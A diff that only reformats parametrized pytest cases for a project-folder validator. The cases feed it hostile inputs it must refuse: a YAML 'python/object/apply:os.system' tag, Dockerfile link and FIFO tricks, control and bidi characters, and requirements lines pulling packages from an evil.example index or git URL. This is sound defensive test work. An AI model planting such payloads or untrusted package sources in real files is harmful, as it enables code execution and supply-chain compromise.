@@ -23,11 +23,18 @@ def make(tmp_path: Path, name: str = "hostile") -> Path:
     return folder
 
 
-@pytest.mark.parametrize("tagged", [
-    "keywords: !!set {a, b}", "keywords: [!!binary aGVsbG8=]", "updated: !!timestamp 2026-01-01",
-    "keywords: !!omap [{a: 1}]", "keywords: !!pairs [{a: 1}]", "keywords: [!local thing]",
-    "keywords: [!!python/object/apply:os.system [true]]",
-])
+@pytest.mark.parametrize(
+    "tagged",
+    [
+        "keywords: !!set {a, b}",
+        "keywords: [!!binary aGVsbG8=]",
+        "updated: !!timestamp 2026-01-01",
+        "keywords: !!omap [{a: 1}]",
+        "keywords: !!pairs [{a: 1}]",
+        "keywords: [!local thing]",
+        "keywords: [!!python/object/apply:os.system [true]]",
+    ],
+)
 def test_explicit_yaml_tags_are_refused_with_their_line(tmp_path, config, tagged):
     folder = make(tmp_path)
     metadata = folder / "datalab.yaml"
@@ -83,14 +90,18 @@ def _dockerfile_not_utf8(folder: Path) -> None:
     (folder / "Dockerfile").write_bytes(b"FROM jl_base\n# caf\xe9\nUSER 1000\n")
 
 
-@pytest.mark.parametrize("make_hostile, rules", [
-    (_dockerfile_link_to_dev_zero, {"DL-032", "DL-057"}),
-    (_dockerfile_link_inside_to_big_file, {"DL-057"}),
-    (_dockerfile_fifo, {"DL-032", "DL-057"}),
-    (_dockerfile_folder, {"DL-051"}),
-    (_dockerfile_continuation_bomb, {"DL-057"}),
-    (_dockerfile_not_utf8, {"DL-057"}),
-], ids=lambda v: v.__name__.strip("_") if callable(v) else None)
+@pytest.mark.parametrize(
+    "make_hostile, rules",
+    [
+        (_dockerfile_link_to_dev_zero, {"DL-032", "DL-057"}),
+        (_dockerfile_link_inside_to_big_file, {"DL-057"}),
+        (_dockerfile_fifo, {"DL-032", "DL-057"}),
+        (_dockerfile_folder, {"DL-051"}),
+        (_dockerfile_continuation_bomb, {"DL-057"}),
+        (_dockerfile_not_utf8, {"DL-057"}),
+    ],
+    ids=lambda v: v.__name__.strip("_") if callable(v) else None,
+)
 def test_a_dockerfile_that_cannot_be_read_safely_is_refused_unread(tmp_path, config, make_hostile, rules):
     folder = advanced(tmp_path)
     make_hostile(folder)
@@ -127,10 +138,13 @@ def test_reads_never_follow_a_linked_folder(tmp_path):
         read_inside(root, "ok.txt", 3)
 
 
-@pytest.mark.parametrize("where, text", [
-    ("archived", 'status: archived\narchived:\n  reason: The mission archive moved elsewhere.\n  date: "2026-02-30"\n'),
-    ("changelog", 'changelog:\n  - version: 0.1.0\n    date: "2026-02-29"\n    changes: [First]\n'),
-])
+@pytest.mark.parametrize(
+    "where, text",
+    [
+        ("archived", 'status: archived\narchived:\n  reason: The mission archive moved elsewhere.\n  date: "2026-02-30"\n'),
+        ("changelog", 'changelog:\n  - version: 0.1.0\n    date: "2026-02-29"\n    changes: [First]\n'),
+    ],
+)
 def test_a_day_that_does_not_exist_is_refused(tmp_path, config, where, text):
     folder = make(tmp_path)
     metadata = folder / "datalab.yaml"
@@ -142,9 +156,18 @@ def test_a_day_that_does_not_exist_is_refused(tmp_path, config, where, text):
 
 
 UNSAFE = {
-    "newline": "\n", "carriage return": "\r", "escape": "\x1b", "NUL-like control": "\x01", "DEL": "\x7f", "C1 control": "\x85",
-    "right-to-left override": "\u202e", "left-to-right isolate": "\u2066", "zero-width space": "\u200b",
-    "zero-width joiner": "\u200d", "byte-order mark": "\ufeff", "line separator": "\u2028",
+    "newline": "\n",
+    "carriage return": "\r",
+    "escape": "\x1b",
+    "NUL-like control": "\x01",
+    "DEL": "\x7f",
+    "C1 control": "\x85",
+    "right-to-left override": "\u202e",
+    "left-to-right isolate": "\u2066",
+    "zero-width space": "\u200b",
+    "zero-width joiner": "\u200d",
+    "byte-order mark": "\ufeff",
+    "line separator": "\u2028",
 }
 
 
@@ -184,12 +207,26 @@ def test_a_folder_name_with_control_characters_is_refused_and_printed_escaped(tm
     assert all("\n" not in f.format() and "\x1b" not in f.format() for f in findings)
 
 
-@pytest.mark.parametrize("line", [
-    "--index-url https://evil.example/simple", "-i https://evil.example/simple", "--extra-index-url https://evil.example/simple",
-    "--find-links ./wheels", "-f https://evil.example/wheels", "--trusted-host evil.example", "-e git+https://evil.example/x.git#egg=x",
-    "-r other.txt", "git+https://evil.example/x.git", "https://evil.example/x-1.0.tar.gz", "x @ https://evil.example/x.whl",
-    "./local-package", "/abs/path/pkg", "numpy --install-option=--prefix=/", "numpy \\\n  --index-url=https://evil.example",
-])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--index-url https://evil.example/simple",
+        "-i https://evil.example/simple",
+        "--extra-index-url https://evil.example/simple",
+        "--find-links ./wheels",
+        "-f https://evil.example/wheels",
+        "--trusted-host evil.example",
+        "-e git+https://evil.example/x.git#egg=x",
+        "-r other.txt",
+        "git+https://evil.example/x.git",
+        "https://evil.example/x-1.0.tar.gz",
+        "x @ https://evil.example/x.whl",
+        "./local-package",
+        "/abs/path/pkg",
+        "numpy --install-option=--prefix=/",
+        "numpy \\\n  --index-url=https://evil.example",
+    ],
+)
 def test_build_time_code_in_basic_mode_needs_a_moderators_exception(tmp_path, config, line):
     folder = make(tmp_path)
     (folder / "requirements.txt").write_text(f"# fine\nastropy==6.1.0\n{line}\nnumpy>=1.26 --hash=sha256:{'a' * 64}\n")
